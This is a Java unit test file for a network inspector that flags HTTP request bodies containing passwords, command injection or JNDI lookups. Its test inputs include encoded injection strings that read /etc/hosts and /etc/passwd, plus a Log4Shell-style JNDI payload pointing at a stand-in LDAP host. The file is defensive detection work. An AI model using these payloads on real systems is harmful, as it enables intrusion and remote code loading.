package io.hark.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import io.hark.FileNotes;
import io.hark.Inspector;
import io.hark.bytes.Bytes;
import io.hark.event.Side;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;

class BodySignsTest {

    private final BodySigns inspector = new BodySigns();

    private List<String> signs(String... pieces) {
        Inspector.Reader reader =
                Objects.requireNonNull(inspector.body("F1", "HTTP", Side.ORIGINATOR));
        for (String piece : pieces) {
            reader.bytes(Bytes.of(piece.getBytes(StandardCharsets.ISO_8859_1)));
        }
        FileNotes notes = new FileNotes();
        reader.end(true, notes);
        return notes.signs;
    }

    @Test
    void a_form_with_a_password_is_told_without_it() {
        assertThat(signs("user=a&pass", "word=abcdefgh&go=1")).containsExactly("PASSWORD");
        assertThat(signs("{\"user\":\"a\",\"password\": \"b\"}")).containsExactly("PASSWORD");
        assertThat(signs("user=a&password=&go=1")).isEmpty();
        assertThat(signs("topic=password+rules")).isEmpty();
    }

    @Test
    void a_form_that_means_to_be_run_is_told() {
        assertThat(signs("ip=127.0.0.1%3Bcat+%2Fetc%2Fhosts")).containsExactly("COMMAND");
        assertThat(signs("u=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D")).containsExactly("JNDI");
    }

    @Test
    void a_command_line_that_programs_tell_each_other_is_nothing() {
        assertThat(signs("{\"ran\": \"powershell -File x.ps1; ls -l\"}")).isEmpty();
    }

    @Test
    void what_is_no_text_or_comes_from_the_server_is_not_looked_at() {
        assertThat(signs("\0\1\2;cat /etc/passwd")).isEmpty();
        assertThat(inspector.body("F1", "HTTP", Side.RESPONDER)).isNull();
        assertThat(inspector.body("F1", "SMTP", Side.ORIGINATOR)).isNull();
    }

    @Test
    void more_than_its_bound_is_left_and_nothing_stays_for_the_next() {
        assertThat(signs("x".repeat(5000), ";cat /etc/hosts")).isEmpty();
        assertThat(signs("a=1")).isEmpty();
    }
}
